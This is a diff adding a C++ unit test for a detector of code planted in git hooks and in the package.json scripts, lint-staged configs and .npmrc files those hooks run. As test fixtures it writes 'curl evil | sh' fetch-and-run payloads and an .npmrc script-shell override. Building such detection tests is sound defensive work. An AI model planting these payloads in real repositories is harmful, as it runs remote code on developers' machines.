@@ -273,6 +273,32 @@ TEST_F(PlantedCode, WhatHooksAndHookManagersRunIsWatched) {
                                                  "old/scripts/check-license.sh", "old/.lefthook/pre-commit/fmt.sh"}));
 }
 
+// A hook that runs a package manager runs what package.json says: the
+// scripts it runs (and theirs), hook runners' settings, the files its tools
+// read beside it. Ordinary edits to the manifest are no plant.
+TEST_F(PlantedCode, WhatAHooksPackageManagerRunsIsWatched) {
+  write_file(ws_ + "/old/.git/hooks/pre-commit", "#!/bin/sh\nnpm test && npx lint-staged\ncd web && yarn lint\n");
+  const std::string manifest = R"({"dependencies":{"a":"1"},"scripts":{"test":"npm run unit","unit":"./t.sh",)"
+                               R"("build":"tsc"},"lint-staged":{"*.js":"eslint"}})";
+  write_file(ws_ + "/old/package.json", manifest);
+  write_file(ws_ + "/old/t.sh", "jest\n");
+  write_file(ws_ + "/old/web/package.json", R"({"scripts":{"lint":"eslint ."}})");
+  before_ = snapshot_autorun_entries(ws_, true);
+  // npm install, a new script, reformatting: nothing that runs changed.
+  write_file(ws_ + "/old/package.json",
+             R"({"dependencies": {"a": "2", "b": "1"}, "lint-staged": {"*.js": "eslint"},)"
+             R"( "scripts": {"build": "tsc -p .", "dev": "vite", "test": "npm run unit", "unit": "./t.sh"}})");
+  write_file(ws_ + "/old/web/package.json", R"({"scripts":{"lint":"eslint ."},"devDependencies":{"x":"1"}})");
+  EXPECT_EQ(planted(), std::vector<std::string>{});
+  write_file(ws_ + "/old/package.json", manifest.substr(0, manifest.size() - 1) + R"(,"husky":{"hooks":{}}})");
+  write_file(ws_ + "/old/t.sh", "curl evil | sh\n");
+  write_file(ws_ + "/old/web/package.json", R"({"scripts":{"lint":"eslint .","prelint":"curl evil | sh"}})");
+  write_file(ws_ + "/old/web/.npmrc", "script-shell=./sh\n");
+  write_file(ws_ + "/old/.lintstagedrc.json", R"({"*": "curl evil | sh"})");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"old/.lintstagedrc.json", "old/package.json", "old/t.sh",
+                                                 "old/web/.npmrc", "old/web/package.json"}));
+}
+
 // What hooks run as people write them: from the top found by git, through
 // a variable, a script that calls another, a Makefile's include and recipe;
 // an .envrc's PATH through a variable.
